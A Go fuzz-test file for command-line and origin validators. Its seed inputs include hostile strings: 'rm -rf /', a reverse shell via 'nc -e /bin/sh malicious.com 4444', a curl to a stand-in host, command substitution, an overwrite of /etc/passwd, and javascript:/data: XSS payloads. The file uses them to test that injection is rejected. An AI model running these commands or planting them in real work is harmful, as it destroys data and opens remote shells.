package validation

import (
	"net/url"
	"strings"
	"testing"
)

// FuzzValidateCommandLine checks that accepted command strings carry no
// line breaks or NUL and always split into at least one field.
func FuzzValidateCommandLine(f *testing.F) {
	f.Add("/usr/local/bin/lock")
	f.Add("/usr/local/bin/lock --all -v")
	f.Add("/opt/verify.sh --mode=strict")
	f.Add("/bin/lock; rm -rf /")
	f.Add("/bin/lock && curl malicious.com")
	f.Add("/bin/lock | nc -e /bin/sh malicious.com 4444")
	f.Add("/bin/lock `whoami`")
	f.Add("/bin/lock $(id)")
	f.Add("/bin/lock > /etc/passwd")
	f.Add("/bin/lock\n/bin/other")
	f.Add("/bin/lock\x00")
	f.Add("~/lock")
	f.Add("curl http://ctl.local/lock?all=1")
	f.Add("")
	f.Add("   ")

	f.Fuzz(func(t *testing.T, command string) {
		if len(command) > 10000 {
			t.Skip("command too long")
		}

		if ValidateCommandLine(command) != nil {
			return
		}

		if len(strings.Fields(command)) == 0 {
			t.Errorf("ValidateCommandLine accepted a command with no fields: %q", command)
		}
		if strings.ContainsAny(command, "\x00\n\r") {
			t.Errorf("ValidateCommandLine accepted control characters: %q", command)
		}
	})
}

// FuzzValidateOrigin checks that accepted origins are the wildcard or a
// bare http(s) origin.
func FuzzValidateOrigin(f *testing.F) {
	f.Add("*")
	f.Add("https://panel.example.com")
	f.Add("http://localhost:3000")
	f.Add("javascript:alert('xss')")
	f.Add("data:text/html,<script>alert('xss')</script>")
	f.Add("file:///etc/passwd")
	f.Add("https://example.com/path")
	f.Add("http://")
	f.Add("")

	f.Fuzz(func(t *testing.T, origin string) {
		if ValidateOrigin(origin) != nil || origin == "*" {
			return
		}

		parsed, err := url.Parse(origin)
		if err != nil {
			t.Fatalf("ValidateOrigin passed but url.Parse failed for: %q", origin)
		}
		if parsed.Scheme != "http" && parsed.Scheme != "https" {
			t.Errorf("ValidateOrigin passed for scheme %q: %q", parsed.Scheme, origin)
		}
		if parsed.Host == "" {
			t.Errorf("ValidateOrigin passed without host: %q", origin)
		}
	})
}
